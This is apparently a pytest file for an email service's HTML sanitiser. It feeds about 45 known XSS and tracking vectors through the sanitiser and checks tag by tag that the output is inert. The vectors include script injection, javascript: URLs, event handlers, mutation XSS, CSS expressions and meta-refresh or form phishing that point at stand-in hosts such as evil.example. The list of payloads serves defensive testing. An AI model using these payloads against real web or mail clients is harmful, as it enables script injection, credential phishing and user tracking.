"""The HTML sanitiser against known XSS and tracking vectors found in mail (OWASP XSS filter evasion cheat sheet,
html5sec.org, mutation XSS): every output is parsed again and checked tag by tag, attribute by attribute."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from email_service.protocols.mime.sanitise import BLOCKED_IMAGE, sanitise_html

ALLOWED_URL = re.compile(r"^(https?:|mailto:|tel:|data:image/(png|jpeg|gif|webp);base64,|/api/v1/attachments/)", re.I)
INLINE_URL = "/api/v1/attachments/00000000-0000-4000-8000-000000000001/download?inline=true"


class _Checker(HTMLParser):
    """Collects what a browser would act on: tags, attributes, URLs, style declarations and text of scripts."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)


def _assert_inert(html: str, *, remote_allowed: bool = False) -> None:
    checker = _Checker()
    checker.feed(html)
    forbidden = {"script", "style", "iframe", "frame", "object", "embed", "applet", "form", "input", "button",
                 "meta", "base", "link", "svg", "math", "textarea", "select", "template", "noscript", "video",
                 "audio", "source", "isindex", "marquee", "xss"}  # fmt: skip
    assert not set(checker.tags) & forbidden, (html, checker.tags)
    for tag, name, value in checker.attributes:
        assert not name.startswith("on"), (html, name)
        assert name not in ("id", "name", "class", "background", "srcset", "formaction", "srcdoc", "poster"), html
        if name in ("href", "src", "cite"):
            assert ALLOWED_URL.match(value), (html, tag, name, value)
            if tag == "img" and name == "src" and not remote_allowed:
                assert not value.lower().startswith(("http", "//")), html
        if name == "style":
            assert not re.search(r"url|expression|import|binding|behavio|\\", value, re.I), (html, value)


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="http://xss.example/x.swf">',
    '<form action="http://phish.example"><input name=password>'
    "<button formaction=javascript:alert(1)>go</button></form>",
    "<input onfocus=alert(1) autofocus>",
    '<meta http-equiv="refresh" content="0;url=http://phish.example">',
    '<base href="http://evil.example/">',
    '<link rel=stylesheet href="http://evil.example/x.css">',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<style>body{background:url("http://track.example/p.png")}</style>',
    '<div style="background-image: url(http://track.example/p.png)">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="-moz-binding: url(http://evil.example/x.xml#xss)">x</div>',
    '<div style="behavior: url(x.htc)">x</div>',
    '<div style="background:u\\rl(http://track.example/p.png)">x</div>',
    '<table background="http://track.example/bg.png"><tr><td background="http://t.example/x">c</td></tr></table>',
    '<img srcset="http://track.example/1x.png 1x">',
    '<video poster="http://track.example/p.png"><source src="http://x.example/v.mp4"></video>',
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<xss onpointerenter=alert(1)>hover</xss>",
    '<a href="#" onclick="alert(1)">x</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<p id="__proto__" name="forms" class="x">clobber</p>',
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<isindex type=image src=1 onerror=alert(1)>",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_known_vectors_come_out_inert(vector: str) -> None:
    result = sanitise_html(f"<p>before</p>{vector}<p>after</p>")
    _assert_inert(result.html)
    assert "before" in result.html and "after" in result.html


def test_there_are_at_least_thirty_vectors() -> None:
    assert len(VECTORS) >= 30


def test_remote_images_are_replaced_unless_allowed() -> None:
    html = '<img src="http://track.example/open.gif?u=1" alt="logo"><img src="//track.example/p.gif">'
    blocked = sanitise_html(html)
    assert blocked.has_remote_images and "track.example" not in blocked.html
    assert blocked.html.count(BLOCKED_IMAGE) == 2 and 'alt="logo"' in blocked.html
    allowed = sanitise_html(html, allow_remote_images=True)
    _assert_inert(allowed.html, remote_allowed=True)
    assert allowed.has_remote_images and 'src="http://track.example/open.gif?u=1"' in allowed.html
    assert 'src="https://track.example/p.gif"' in allowed.html
    assert not sanitise_html('<img src="cid:logo@x">').has_remote_images


def test_cid_references_point_at_the_inline_attachment() -> None:
    html = '<img src="cid:logo@example.com"><img src="CID:%3Clogo@example.com%3E"><img src="cid:other@x">'
    result = sanitise_html(html, inline_urls={"logo@example.com": INLINE_URL})
    assert result.html.count(f'src="{INLINE_URL}"') == 2 and "other@x" not in result.html
    _assert_inert(result.html)


def test_formatting_survives() -> None:
    html = (
        '<table width="600" cellpadding="4"><tr><td style="color: #333; font-size: 14px; padding: 8px">Hi</td></tr>'
        '</table><p><b>bold</b> <a href="https://shop.example/x">link</a> '
        '<img src="data:image/png;base64,iVBORw0KGgo="></p><ul><li>one</li></ul><blockquote cite="https://q.example">q</blockquote>'
    )
    result = sanitise_html(html)
    for kept in ('width="600"', "color:#333", "font-size:14px", "<b>bold</b>", 'href="https://shop.example/x"',
                 'rel="noopener noreferrer"', "data:image/png;base64,iVBORw0KGgo=", "<li>one</li>"):  # fmt: skip
        assert kept in result.html, (kept, result.html)
    assert not result.has_remote_images
